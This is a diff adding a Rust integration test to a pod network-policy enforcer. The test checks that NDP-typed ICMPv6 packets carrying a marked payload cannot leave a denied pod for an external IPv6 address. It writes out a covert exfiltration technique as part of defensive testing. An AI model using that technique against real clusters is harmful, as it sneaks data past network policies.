@@ -5,6 +5,8 @@
 //! `cali` prefix) is now attached as soon as the link exists: with no endpoint entry
 //! for it, the programs drop everything.
 //!
+//! Item 4: NDP-typed ICMPv6 is no channel out of a denied pod.
+//!
 //! Item 10's lab proofs (a `hostNetwork` pod's labels and a finished pod's address)
 //! are in `lab_workloads.rs`.
 //!
@@ -12,13 +14,13 @@
 //! attacks_pods -- --test-threads=1`.
 
 use std::io::Write as _;
-use std::net::{SocketAddr, TcpListener};
+use std::net::{Ipv6Addr, SocketAddr, TcpListener};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
 use enforcer::datastore::file::FileDatastore;
-use enforcer_tests::attack::tcp_attempt;
+use enforcer_tests::attack::{Icmpv6Capture, icmpv6_send, tcp_attempt};
 use enforcer_tests::lab::{LabGuard, fixture, serial, unique_name};
 use enforcer_tests::traffic::enter_netns;
 
@@ -232,4 +234,49 @@ fn a_pod_the_agent_does_not_know_yet_sends_and_receives_nothing() {
     assert!(reported(), "the status names the interface");
     // The known pods are unaffected.
     assert!(tcp_attempt(&ext, None, frontend_http, ATTEMPT).connected());
+}
+
+/// Security item 4: ICMPv6 types 133-137 passed every hook for any addresses and
+/// payload. A pod under a cluster-wide default deny sends type-135 packets with a
+/// 68-byte payload to an external IPv6 address: none may leave the node. (NDP is
+/// link-local: valid NDP has hop limit 255 and link-scope or the host's addresses.)
+#[test]
+fn ndp_types_carry_no_data_out_of_a_denied_pod() {
+    let _serial = serial();
+    let lab = LabGuard::new("ap4");
+    lab.up(
+        &[
+            &fixture("hostendpoints/nodeport-app.yaml"),
+            &fixture("hostendpoints/001-default-deny.yaml"),
+        ],
+        true,
+    );
+    let ext = format!("enf-{}-ext", lab.name);
+    let node = format!("enf-{}-node", lab.name);
+    let web = lab
+        .get_pods()
+        .into_iter()
+        .find(|p| p.namespace == "default" && p.name == "web-0")
+        .unwrap_or_else(|| panic!("no default/web-0"));
+    let external: Ipv6Addr = "2001:2:0:ff::2".parse().unwrap_or_else(|e| panic!("{e}"));
+    const MARKER: &[u8] = b"exfiltrated-through-ndp";
+    let mut payload = MARKER.to_vec();
+    payload.resize(68, b'.');
+
+    // The capture sees such a message when it does get there: the node's own.
+    let capture = Icmpv6Capture::start(&ext, Duration::from_millis(1500), MARKER);
+    icmpv6_send(&node, external, 135, &payload).unwrap_or_else(|e| panic!("send: {e}"));
+    assert!(!capture.finish().is_empty(), "the capture works");
+
+    let capture = Icmpv6Capture::start(&ext, Duration::from_millis(1500), MARKER);
+    for icmp_type in [133, 134, 135, 136, 137] {
+        icmpv6_send(&web.netns, external, icmp_type, &payload)
+            .unwrap_or_else(|e| panic!("send type {icmp_type}: {e}"));
+    }
+    let leaked = capture.finish();
+    assert!(
+        leaked.is_empty(),
+        "NDP-typed messages left the node from a denied pod: {:?}",
+        leaked.iter().map(|m| m[0]).collect::<Vec<_>>()
+    );
 }
